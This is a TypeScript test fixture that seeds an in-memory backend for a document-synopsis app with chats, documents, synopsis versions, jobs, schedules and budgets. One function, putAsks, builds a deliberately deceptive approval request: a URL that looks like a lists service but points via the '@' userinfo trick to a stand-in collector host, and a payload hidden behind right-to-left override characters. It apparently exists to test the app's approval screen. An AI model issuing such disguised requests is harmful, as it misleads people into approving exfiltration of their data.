import type { JobStepView } from '../../src/shared/domain/job-step.ts';
import type { JobView } from '../../src/shared/domain/job.ts';
import { noteId, versionId } from '../../src/shared/domain/ids.ts';
import type { Language } from '../../src/shared/domain/language.ts';
import {
  sectionKinds,
  type Citation,
  type CoverageSource,
  type Section,
  type SectionKind,
  type SynopsisVersion,
} from '../../src/shared/domain/synopsis.ts';
import { createBrowserScenes } from './memory-browser-scenes.ts';
import { createAnswers } from './memory-answers.ts';
import { createMemoryBackend, type MemoryBackendParams } from './memory-backend.ts';
import { cite } from './memory-material.ts';
import { memoryTexts } from './memory-texts.ts';

/** How long recorded steps took, in turn. */
const stepTimesMs = [320, 900, 2_400, 180, 410, 90] as const;
const minute = 60_000;
const day = 24 * 60 * minute;

/** A lived-in program: chats, a chat with documents in every state, a synopsis with three versions, jobs in every group. */
export function createScenario(language: Language, params: Pick<MemoryBackendParams, 'settings'> & { nowMs: number }) {
  const texts = memoryTexts[language];
  const backend = createMemoryBackend({
    nowMs: params.nowMs - 9 * day,
    systemLocale: language === 'ru' ? 'ru-RU' : 'en-US',
    settings: { language, ...params.settings },
  });
  const isRu = language === 'ru';

  // Older chats.
  const others = texts.chats
    .slice(1)
    .reverse()
    .map((title, at) => {
      backend.tick(at < 4 ? day : 8 * 60 * minute);
      return backend.putSession({ ...backend.newSession(title), unread: at === 3 });
    });
  backend.tick(params.nowMs - 40 * minute - backend.now());
  const demo = backend.putSession({
    ...backend.newSession(isRu ? 'Пример: лекция о воде' : 'Sample: a lecture on water', true),
    updatedAtMs: params.nowMs - 9 * day,
  });
  const empty = backend.putSession(backend.newSession(null));
  const main = backend.putSession(backend.newSession(texts.chats[0] ?? null));
  backend.sources.set(texts.lecture.hash, texts.lecture);
  backend.sources.set(texts.minutes.hash, texts.minutes);

  const lecture = backend.putDocument(
    backend.newDocument(main.id, texts.titles.lecture, {
      state: 'ready',
      format: 'pdf',
      snapshotHash: texts.lecture.hash,
      language,
      byteCount: 2_400_000,
      charCount: texts.lecture.text.length,
      pageCount: texts.lecture.pageCount,
    }),
  );
  backend.tick(1_000);
  const minutes = backend.putDocument(
    backend.newDocument(main.id, texts.titles.minutes, {
      state: 'ready',
      format: 'docx',
      snapshotHash: texts.minutes.hash,
      language,
      byteCount: 31_000,
      charCount: texts.minutes.text.length,
      warnings: [{ code: 'tables_flattened', count: null, detail: null }],
    }),
  );
  backend.tick(1_000);
  const scan = backend.putDocument(
    backend.newDocument(main.id, texts.titles.scan, {
      state: 'failed',
      format: 'pdf',
      error: { code: 'encrypted', detail: null },
      byteCount: 880_000,
    }),
  );
  backend.tick(minute);

  const lectureRef = { kind: 'document', documentId: lecture.id } as const;
  const minutesRef = { kind: 'document', documentId: minutes.id } as const;
  const fromLecture = (quote: string): Citation => cite(texts.lecture, lectureRef, quote);
  const fromMinutes = (quote: string): Citation => cite(texts.minutes, minutesRef, quote);

  backend.putMessages(backend.newMessage(main.id, 'person', texts.question, { documentIds: [lecture.id, minutes.id, scan.id] }));
  backend.tick(2_000);
  backend.putMessages(
    backend.newMessage(main.id, 'assistant', texts.answer, { note: 'no_model', citations: texts.answerQuotes.map(fromLecture) }),
  );
  backend.tick(3 * minute);
  backend.putMessages(backend.newMessage(main.id, 'person', texts.second));
  backend.tick(2_000);
  const stopped = backend.newMessage(main.id, 'assistant', texts.stopped, { state: 'stopped' });
  backend.putMessages(stopped);
  backend.tick(minute);

  const coverage: CoverageSource[] = [
    {
      source: lectureRef,
      title: texts.titles.lecture,
      snapshotHash: texts.lecture.hash,
      state: 'used',
      reason: null,
      charCount: texts.lecture.text.length,
      pageCount: texts.lecture.pageCount,
      pagesRead: texts.lecture.pageCount - 2,
      warnings: [{ code: 'pages_need_ocr', count: 2, detail: null }],
    },
    {
      source: minutesRef,
      title: texts.titles.minutes,
      snapshotHash: texts.minutes.hash,
      state: 'used',
      reason: null,
      charCount: texts.minutes.text.length,
      pageCount: null,
      pagesRead: null,
      warnings: [],
    },
    {
      source: { kind: 'chat' },
      title: '',
      snapshotHash: null,
      state: 'used',
      reason: null,
      charCount: 640,
      pageCount: null,
      pagesRead: null,
      warnings: [],
    },
    {
      source: { kind: 'document', documentId: scan.id },
      title: texts.titles.scan,
      snapshotHash: null,
      state: 'failed',
      reason: 'encrypted',
      charCount: 0,
      pageCount: null,
      pagesRead: null,
      warnings: [],
    },
  ];
  const provenance = { kind: 'extractive', version: '1' } as const;
  const plain = (kind: SectionKind, quotes: readonly string[], from: (quote: string) => Citation) =>
    quotes.map((text, at) => ({ id: `${kind}-${at + 1}`, text, citations: [from(text)] }));

  function sectionOf(kind: SectionKind): Section {
    switch (kind) {
      case 'summary':
        return { kind, provenance, emptyReason: null, items: plain(kind, texts.summary, fromLecture) };
      case 'theses':
        return {
          kind,
          provenance,
          emptyReason: null,
          items: [
            ...plain(kind, texts.theses, fromLecture),
            { id: 'theses-8', text: texts.approximate, citations: [{ ...fromLecture(texts.approximate), support: 'approximate' }] },
            { id: 'theses-9', text: texts.invented, citations: [cite(texts.lecture, lectureRef, texts.invented, 'missing')] },
          ],
        };
      case 'terms':
        return {
          kind,
          provenance,
          emptyReason: null,
          items: texts.terms.map(([term, text], at) => ({ id: `terms-${at + 1}`, term, text, citations: [fromLecture(text)] })),
        };
      case 'timeline':
        return {
          kind,
          provenance,
          emptyReason: null,
          items: texts.timeline.map(([when, date, text], at) => ({
            id: `timeline-${at + 1}`,
            when,
            date,
            text,
            citations: [fromLecture(text)],
          })),
        };
      case 'decisions':
        return { kind, provenance, emptyReason: null, items: plain(kind, texts.decisions, fromMinutes) };
      case 'tasks':
        return {
          kind,
          provenance,
          emptyReason: null,
          items: texts.tasks.map(([who, due, text], at) => ({ id: `tasks-${at + 1}`, who, due, text, citations: [fromMinutes(text)] })),
        };
      case 'figures':
        return {
          kind,
          provenance,
          emptyReason: null,
          items: texts.figures.map(([figure, text], at) => ({ id: `figures-${at + 1}`, figure, text, citations: [fromLecture(text)] })),
        };
      case 'questions':
        return { kind, provenance, emptyReason: null, items: plain(kind, texts.questions, fromLecture) };
      case 'contradictions':
        return { kind, provenance, emptyReason: 'needs_model', items: [] };
      case 'selfCheck':
        return { kind, provenance, emptyReason: 'needs_model', items: [] };
    }
  }

  // A first version, finished yesterday; the second in the state a test asks for.
  const firstJob = backend.putJob(
    backend.newJob('synopsis.make', main.id, texts.chats[0] ?? '', {
      state: 'done',
      outcome: 'issues',
      issues: ['source_incomplete', 'citation_missing'],
      startedAtMs: backend.now() - 20_000,
      finishedAtMs: backend.now() - 4_000,
      stepsDone: 12,
    }),
  );
  backend.inspections.set(firstJob.id, {
    steps: ['setup', 'segmenting', 'ranking', ...sectionKinds.map(kind => `section:${kind}`), 'verifying'].map((name, at) => ({
      seq: at + 1,
      name,
      attempt: at === 4 ? 2 : 1,
      startedAtMs: backend.now() - 20_000 + at * 1_000,
      finishedAtMs: backend.now() - 20_000 + at * 1_000 + (stepTimesMs[at % stepTimesMs.length] ?? 0),
      effect: 'none',
      outcome: null,
      compensates: null,
      undo: null,
      decision: null,
    })),
    events: ['enqueued', 'started', 'returned', 'started', 'done'].map((type, at) => ({
      seq: at + 1,
      type,
      atMs: backend.now() - 21_000 + at * 3_000,
      detail: type === 'returned' ? 'worker_exit: exit 137' : null,
    })),
  });
  const first = backend.putVersion(
    backend.newVersion(main.id, texts.chats[0] ?? '', {
      jobId: firstJob.id,
      language,
      state: 'ready',
      finishedAtMs: backend.now(),
      coverage,
      sections: sectionKinds.map(sectionOf),
      issues: [
        { code: 'source_incomplete', count: 1 },
        { code: 'citation_missing', count: 1 },
      ],
    }),
  );
  const {
    title: firstTitle,
    sessionId: _,
    notes: _notes,
    coverage: firstSources,
    sections: firstSections,
    plannedSections,
    ...firstHead
  } = first;
  backend.inspections.set(firstJob.id, {
    ...backend.inspections.get(firstJob.id),
    material: {
      kind: 'synopsis.make',
      sessionId: main.id,
      version: firstHead,
      title: firstTitle,
      planned: plannedSections,
      sections: firstSections.map(({ kind, items }) => ({ kind, items: items.length })),
      sources: firstSources,
      sourceCount: firstSources.length,
    },
  });
  backend.tick(minute);
  backend.putMessages(backend.newMessage(main.id, 'assistant', '', { note: 'synopsis_ready', jobId: firstJob.id }));
  backend.tick(params.nowMs - backend.now());

  /** A lived-in synopsis: outdated sections, a note, an earlier version; with `proposed` two sections wait for a decision. */
  function liveOn(proposed: boolean): void {
    const isRu = language === 'ru';
    const changed = first.sections.map(each => {
      if (each.kind !== 'theses') return each;
      const items = each.items
        .slice(0, -1)
        .map((item, at) => (at === 0 ? { ...item, text: item.text.replace(/\S+\.?$/u, isRu ? 'иначе.' : 'otherwise.') } : item));
      return { ...each, items };
    });
    const note = {
      id: noteId.parse('01920000-0000-7000-8000-0000000000a1'),
      after: 'summary' as const,
      text: isRu
        ? '**Спросить у лектора:** откуда цифра про 55 % и за какой год?\n\n- сверить с отчётом водоканала\n- взять на семинар'
        : '**Ask the lecturer:** where does the 55 % come from, and of which year?\n\n- check against the utility’s report\n- bring to the seminar',
      createdAtMs: backend.now(),
      updatedAtMs: backend.now(),
    };
    const second = backend.putVersion({
      ...first,
      id: versionId.parse('01920000-0000-7000-8000-0000000000b2'),
      number: 2,
      jobId: null,
      trigger: 'note',
      sections: changed,
      notes: [note],
      finishedAtMs: backend.now(),
    });
    const reasons = [
      { code: 'source_added' as const, documentId: minutes.id, title: minutes.title },
      { code: 'messages_added' as const, count: 3 },
    ];
    const kinds = ['theses', 'decisions', 'tasks'] as const;
    backend.lives.setStale(
      main.id,
      kinds.map((kind, at) => ({
        kind,
        reasons:
          at === 1 ? [...reasons, { code: 'source_changed' as const, documentId: lecture.id, title: lecture.title, cited: 2 }] : reasons,
      })),
    );
    if (!proposed) return;
    const own = (kind: SectionKind) => first.sections.filter(each => each.kind === kind);
    backend.lives.propose(main.id, {
      version: { ...backend.headOf(second), state: 'ready', trigger: 'refresh', only: [...kinds], jobId: firstJob.id },
      sections: [...own('theses'), ...own('tasks').map(each => (each.kind === 'tasks' ? { ...each, items: each.items.slice(1) } : each))],
    });
  }

  /** As many synopses as a library of years has. */
  function fillLibrary(count: number): void {
    const kinds = ['lecture', 'meeting', 'article', 'research', 'brief'] as const;
    for (let n = 0; n < count; n += 1) {
      const title = texts.chats[n % texts.chats.length] ?? '';
      const chat = backend.putSession(backend.newSession(`${title} ${n + 1}`));
      const version = backend.putVersion({
        ...backend.newVersion(chat.id, `${title} ${n + 1}`, {
          jobId: null,
          language: n % 7 === 3 ? (language === 'ru' ? 'en' : 'ru') : language,
          template: kinds[n % kinds.length] ?? 'article',
          state: 'ready',
          finishedAtMs: backend.now() - n * 7 * 3_600_000,
          coverage: coverage.slice(0, 1 + (n % coverage.length)),
        }),
        issues: n % 5 === 2 ? [{ code: 'citation_missing', count: 1 }] : [],
      });
      const names =
        language === 'ru' ? ['семинар', 'диплом', 'работа', 'прочитать летом'] : ['seminar', 'thesis', 'work', 'read in summer'];
      backend.lives.setTags(version.synopsisId, names.slice(0, n % names.length));
      if (n % 6 === 1) backend.lives.setStale(chat.id, [{ kind: 'summary', reasons: [{ code: 'messages_added', count: 1 }] }]);
    }
  }

  /** Starts the second version with the first `ready` sections. */
  function startSecond(ready: number): SynopsisVersion {
    const job = backend.putJob(
      backend.newJob('synopsis.make', main.id, texts.chats[0] ?? '', {
        state: 'running',
        startedAtMs: backend.now(),
        progress: { phase: 'section', label: sectionKinds[ready] ?? null, done: ready, total: sectionKinds.length },
      }),
    );
    return backend.putVersion(
      backend.newVersion(main.id, texts.chats[0] ?? '', {
        jobId: job.id,
        language,
        coverage,
        sections: sectionKinds.slice(0, ready).map(sectionOf),
      }),
    );
  }

  /** Fills the tasks panel with a job of every state. */
  function fillJobs(): void {
    const at = backend.now();
    const importing = backend.putJob(
      backend.newJob('document.import', main.id, texts.titles.report, {
        state: 'running',
        startedAtMs: at - 74_000,
        lastNewsAtMs: at,
        progress: { phase: 'extracting', label: texts.titles.report, done: 118, total: 342 },
      }),
    );
    backend.putDocument(
      backend.newDocument(main.id, texts.titles.report, { format: 'pdf', byteCount: 48_000_000, pageCount: 342, jobId: importing.id }),
    );
    backend.putJob(
      backend.newJob(
        'chat.answer',
        others[2]?.id ?? null,
        isRu ? 'Что говорит договор о ремонте?' : 'What does the lease say about repairs?',
        { state: 'waiting', waitReason: 'approval' },
      ),
    );
    backend.putJob(
      backend.newJob('chat.answer', others[1]?.id ?? null, isRu ? 'Сравни обе статьи о сне' : 'Compare both papers on sleep', {
        state: 'queued',
      }),
    );
    backend.putJob(
      backend.newJob('document.import', others[4]?.id ?? null, texts.titles.page, {
        state: 'scheduled',
        dueAtMs: at + 4 * minute,
        attempt: 1,
        error: { code: 'unreachable', message: 'timeout' },
      }),
    );
    backend.putJob(
      backend.newJob('document.import', main.id, texts.titles.scan, {
        state: 'failed',
        error: { code: 'encrypted', message: 'encrypted' },
        startedAtMs: at - 30_000,
        finishedAtMs: at - 29_000,
      }),
    );
    backend.putJob(
      backend.newJob('document.import', main.id, texts.titles.lecture, {
        state: 'done',
        outcome: 'ok',
        startedAtMs: at - 300_000,
        finishedAtMs: at - 297_000,
      }),
    );
    backend.putJob(
      backend.newJob('chat.answer', main.id, texts.second, { state: 'cancelled', startedAtMs: at - 200_000, finishedAtMs: at - 190_000 }),
    );
    backend.changeStatus({
      workers: [
        { name: 'documents', state: 'working', running: 1, restarts: 0, retryAtMs: null },
        { name: 'synopsis', state: 'idle', running: 0, restarts: 1, retryAtMs: null },
        { name: 'agent', state: 'idle', running: 0, restarts: 0, retryAtMs: null },
      ],
    });
  }

  const stepOf = (seq: number, name: string, patch: Partial<JobStepView> = {}): JobStepView => ({
    seq,
    name,
    attempt: 1,
    startedAtMs: backend.now() - 60_000 + seq * 2_000,
    finishedAtMs: backend.now() - 60_000 + seq * 2_000 + (stepTimesMs[seq % stepTimesMs.length] ?? 0),
    effect: 'none',
    outcome: null,
    compensates: null,
    undo: null,
    decision: null,
    ...patch,
  });
  const written = { effect: 'once', outcome: 'succeeded', undo: 'registered' } as const;

  /** An export that was cut off while it wrote its second file, and asks. */
  function putQuestion(): JobView {
    const at = backend.now();
    const subjects = { 'file:1': texts.chats[0] ?? '', 'file:2': texts.chats[1] ?? '' };
    const job = backend.newJob('synopses.export', null, isRu ? 'Конспекты' : 'Synopses', {
      state: 'waiting',
      waitReason: 'answer',
      undecided: 1,
      attempt: 1,
      maxAttempts: 3,
      stepsDone: 2,
      startedAtMs: at - 62_000,
    });
    backend.inspections.set(job.id, {
      steps: [
        stepOf(1, 'plan'),
        stepOf(2, 'file:1', written),
        stepOf(3, 'file:2', { effect: 'once', outcome: 'indeterminate', finishedAtMs: null }),
      ],
      undecided: [{ seq: 3, name: 'file:2', what: 'effect', sinceMs: at - 54_000, decisions: ['done', 'repeat', 'drop'] }],
      events: [
        { seq: 1, type: 'enqueued', atMs: at - 63_000, detail: null },
        { seq: 2, type: 'started', atMs: at - 62_000, detail: null },
        { seq: 3, type: 'step', atMs: at - 58_000, detail: 'plan' },
        { seq: 4, type: 'dispatched', atMs: at - 56_000, detail: 'file:1' },
        { seq: 5, type: 'step', atMs: at - 55_000, detail: 'file:1' },
        { seq: 6, type: 'dispatched', atMs: at - 54_000, detail: 'file:2' },
        { seq: 7, type: 'returned', atMs: at - 20_000, detail: 'worker_exit: The worker process left with 137.' },
        { seq: 8, type: 'waiting', atMs: at - 19_000, detail: 'answer' },
      ],
      subjects,
    });
    return backend.putJob(job);
  }

  /** An export that failed after its second file, with an earlier run set aside and a limit that holds for it. */
  function putFailedExport(): JobView {
    const at = backend.now();
    const job = backend.newJob('synopses.export', null, isRu ? 'Для семинара' : 'For the seminar', {
      state: 'failed',
      error: { code: 'folder_gone', message: 'The folder for the exported files is not there.' },
      attempt: 3,
      maxAttempts: 3,
      stepsDone: 3,
      startedAtMs: at - 62_000,
      finishedAtMs: at - 40_000,
    });
    backend.inspections.set(job.id, {
      steps: [
        stepOf(1, 'plan'),
        stepOf(2, 'file:1', written),
        stepOf(3, 'file:2', { ...written, attempt: 2 }),
        stepOf(4, 'file:3', { effect: 'once', outcome: 'failed' }),
      ],
      superseded: [
        { ...stepOf(2, 'file:1', { effect: 'once', outcome: 'succeeded' }), undo: undefined, run: 1, supersededAtMs: at - 3_600_000 },
      ].map(({ undo: _undo, ...step }) => step),
      events: [
        { seq: 1, type: 'enqueued', atMs: at - day, detail: null },
        { seq: 2, type: 'superseded', atMs: at - 3_600_000, detail: '2' },
        { seq: 3, type: 'retried_by_hand', atMs: at - 3_600_000, detail: null },
        { seq: 4, type: 'started', atMs: at - 62_000, detail: null },
        { seq: 5, type: 'retry', atMs: at - 50_000, detail: 'folder_gone: The folder for the exported files is not there.' },
        { seq: 6, type: 'failed', atMs: at - 40_000, detail: 'folder_gone: The folder for the exported files is not there.' },
      ],
      forks: [firstJob.id],
      spent: { tokens: 0, moneyMinor: 0, steps: 0, wallMs: 22_000, unpricedTokens: 0 },
      budgets: [
        {
          scope: 'program',
          subject: '',
          period: 'day',
          limits: { tokens: null, moneyMinor: null, steps: null, wallMs: 60 * minute },
          spent: { tokens: 0, moneyMinor: 0, steps: 0, wallMs: 12 * minute, unpricedTokens: 0 },
          endsAtMs: at + 5 * 60 * minute,
        },
      ],
      subjects: { 'file:1': texts.chats[0] ?? '', 'file:2': texts.chats[1] ?? '', 'file:3': texts.chats[2] ?? '' },
    });
    return backend.putJob(job);
  }

  /** An export that could not take all of its files back. */
  function putHalfUndone(): JobView {
    const at = backend.now();
    const job = backend.newJob('synopses.export', null, isRu ? 'Архив' : 'Archive', {
      state: 'failed',
      error: { code: 'compensation_failed', message: 'Not undone: file:2.' },
      undoing: 'cancelled',
      startedAtMs: at - 62_000,
      finishedAtMs: at - 40_000,
    });
    backend.inspections.set(job.id, {
      steps: [
        stepOf(1, 'plan'),
        stepOf(2, 'file:1', { ...written, undo: 'done' }),
        stepOf(3, 'file:2', written),
        stepOf(4, 'undo:file:1', { compensates: 'file:1' }),
      ],
      undecided: [{ seq: 3, name: 'file:2', what: 'compensation', sinceMs: at - 40_000, decisions: ['done', 'repeat', 'drop'] }],
      subjects: { 'file:1': texts.chats[0] ?? '', 'file:2': texts.chats[1] ?? '' },
    });
    return backend.putJob(job);
  }

  /** A job for each way to wait; the returned ones in the order of the reasons. */
  function putWaits(): readonly JobView[] {
    const at = backend.now();
    const title = isRu ? 'Что говорит договор о ремонте?' : 'What does the lease say about repairs?';
    const wait = (untilMs: number | null, patch: Partial<NonNullable<JobView['wait']>> = {}) => ({
      untilMs,
      ends: 'resume' as const,
      limit: null,
      ...patch,
    });
    const limit = { scope: 'session', subject: main.id, period: 'ever', unit: 'wallMs' } as const;
    const jobs = [
      backend.newJob('synopsis.make', main.id, texts.chats[0] ?? '', {
        state: 'waiting',
        waitReason: 'budget',
        wait: wait(null, { limit }),
        startedAtMs: at - 400_000,
      }),
      backend.newJob('chat.answer', others[2]?.id ?? null, title, {
        state: 'waiting',
        waitReason: 'approval',
        wait: wait(at + 20 * minute, { ends: 'cancel' }),
      }),
      backend.newJob('chat.answer', others[1]?.id ?? null, title, { state: 'waiting', waitReason: 'network', wait: wait(at + 3 * minute) }),
      backend.newJob('synopsis.make', others[1]?.id ?? null, texts.chats[1] ?? '', {
        state: 'waiting',
        waitReason: 'children',
        wait: wait(at + 5 * minute),
      }),
      backend.newJob('chat.answer', others[3]?.id ?? null, title, {
        state: 'waiting',
        waitReason: 'budget',
        wait: wait(at + 9 * 60 * minute, { limit: { ...limit, scope: 'program', subject: '', period: 'day' } }),
      }),
      backend.newJob('chat.answer', main.id, title, { heldBy: 'session' }),
      backend.newJob('document.import', main.id, texts.titles.page, {
        state: 'scheduled',
        dueAtMs: at + 4 * minute,
        attempt: 1,
        error: { code: 'unreachable', message: 'timeout' },
      }),
    ];
    const [limited] = jobs;
    if (limited)
      backend.inspections.set(limited.id, {
        steps: [
          stepOf(1, 'setup'),
          stepOf(2, 'section:summary', {
            usage: { tokens: 4_180, moneyMinor: 0 },
            toolCalls: [
              { name: 'search_passages', startedAtMs: at - 50_000, finishedAtMs: at - 49_600, ok: true },
              { name: 'read_source', startedAtMs: at - 49_000, finishedAtMs: at - 48_000, ok: false },
            ],
          }),
          stepOf(3, 'section:theses', { usage: { tokens: 12_400, moneyMinor: 0 } }),
        ],
        events: [
          { seq: 1, type: 'enqueued', atMs: at - 400_000, detail: null },
          { seq: 2, type: 'started', atMs: at - 400_000, detail: null },
          { seq: 3, type: 'waiting', atMs: at - 19_000, detail: 'budget' },
        ],
        spent: { tokens: 16_580, moneyMinor: 0, steps: 0, wallMs: 380_000, unpricedTokens: 0 },
        budgets: [
          {
            scope: 'session',
            subject: main.id,
            period: 'ever',
            limits: { tokens: null, moneyMinor: null, steps: null, wallMs: 30 * minute },
            spent: { tokens: 16_580, moneyMinor: 0, steps: 0, wallMs: 30 * minute, unpricedTokens: 0 },
            endsAtMs: null,
          },
        ],
      });
    return jobs.map(job => backend.putJob(job));
  }

  /** A limit of the open chat, used up in part, beside those that hold for all. */
  function putChatLimit(): void {
    putPlans();
    backend.plans.setBudget({
      budget: {
        scope: 'session',
        subject: main.id,
        period: 'ever',
        limits: { tokens: 50_000, moneyMinor: null, steps: null, wallMs: 30 * minute },
      },
    });
    backend.plans.spend(main.id, { tokens: 16_580, moneyMinor: 0, steps: 0, wallMs: 30 * minute, unpricedTokens: 0 });
  }

  /** A schedule that has come, one that is off, and two limits. */
  function putPlans(): void {
    const at = backend.now();
    const common = {
      timeZone: Intl.DateTimeFormat().resolvedOptions().timeZone,
      missed: 'run_once',
      requestKey: '',
    } as const;
    const work = (sessionId: typeof main.id) =>
      ({ kind: 'synopsis.make', sessionId, detail: 'standard', template: 'article', language: null }) as const;
    const daily = backend.plans.save({ ...common, scheduleId: null, title: null, work: work(main.id), cron: '0 9 * * 1-5', enabled: true });
    backend.plans.put({
      ...daily,
      lastRun: { plannedAtMs: at - day, atMs: at - day, outcome: 'started', jobId: firstJob.id, error: null },
    });
    backend.plans.save({ ...common, scheduleId: null, title: null, work: work(demo.id), cron: '30 18 * * 5', enabled: false });
    const limits = { tokens: null, moneyMinor: null, steps: null, wallMs: null };
    backend.plans.setBudget({ budget: { scope: 'program', subject: '', period: 'day', limits: { ...limits, tokens: 100_000 } } });
    backend.plans.setBudget({ budget: { scope: 'session', subject: '*', period: 'ever', limits: { ...limits, wallMs: 90 * minute } } });
  }

  /** An answer that asks to send a page something, with text that tries to deceive; and what the work in the background asks. */
  function putAsks() {
    const at = backend.now();
    const waiting = { state: 'waiting', startedAtMs: at - 40_000, wait: { untilMs: null, ends: 'resume', limit: null } } as const;
    const title = isRu ? 'Отправь план встречи в общий список' : 'Send the plan of the meeting to the shared list';
    const answering = backend.putJob(backend.newJob('chat.answer', main.id, title, { ...waiting, waitReason: 'approval' }));
    backend.putMessages(backend.newMessage(main.id, 'person', title));
    backend.putMessages(
      backend.newMessage(main.id, 'assistant', isRu ? 'План готов, отправляю.' : 'The plan is ready, I am sending it.', {
        state: 'streaming',
        jobId: answering.id,
      }),
    );
    const approval = backend.approvals.ask(answering, {
      tool: 'mcp__lists__add_item',
      title: isRu ? 'Добавить запись «План встречи» в общий список' : 'Add the entry “Plan of the meeting” to the shared list',
      destination: 'https://lists.example.org@upload.collector-service.example.net/v1/lists/2026-spring-planning/items?visibility=everyone',
      payload: JSON.stringify({
        list: '2026-spring-planning',
        title: isRu ? 'План встречи' : 'Plan of the meeting',
        text: isRu
          ? '**Разрешено** <b>заранее</b>\n1. Бюджет \u202Eагатсо\u202C\n2. Сроки'
          : '**Allowed** <b>before</b>\n1. Budget \u202Etser\u202C\n2. Dates',
        share: ['ann@example.org', 'group@example.org'],
      }),
      expiresAtMs: at + 12 * minute,
    });
    const behind = backend.putJob(
      backend.newJob('agent.run', main.id, isRu ? 'Сравнить три договора' : 'Compare three leases', { ...waiting, waitReason: 'answer' }),
    );
    const choice = backend.approvals.ask(behind, {
      type: 'question',
      tool: 'ask_person',
      title: isRu ? 'По какому признаку сравнивать в первую очередь?' : 'What should be compared first?',
      destination: null,
      payload: null,
      choices: isRu ? ['Цена', 'Срок', 'Ремонт и его оплата'] : ['Price', 'Term', 'Repairs and who pays for them'],
    });
    const elsewhere = backend.putJob(
      backend.newJob('agent.run', others[1]?.id ?? null, isRu ? 'Найти источники' : 'Find sources', { ...waiting, waitReason: 'answer' }),
    );
    const words = backend.approvals.ask(elsewhere, {
      type: 'question',
      tool: 'ask_person',
      title: isRu ? 'За какие годы искать?' : 'Which years should be searched?',
      destination: null,
      payload: null,
      expiresAtMs: at + 60 * minute,
    });
    return { answering, approval, behind, choice, elsewhere, words };
  }

  return {
    backend,
    browsing: createBrowserScenes(backend, main.id, language),
    answers: createAnswers(backend, main.id, language),
    putAsks,
    putQuestion,
    putFailedExport,
    putHalfUndone,
    putPlans,
    putWaits,
    putChatLimit,
    texts,
    main,
    demo,
    empty,
    lecture,
    minutes,
    scan,
    stopped,
    first,
    firstJob,
    startSecond,
    liveOn,
    fillLibrary,
    fillJobs,
    fromLecture,
  };
}

export type Scenario = ReturnType<typeof createScenario>;
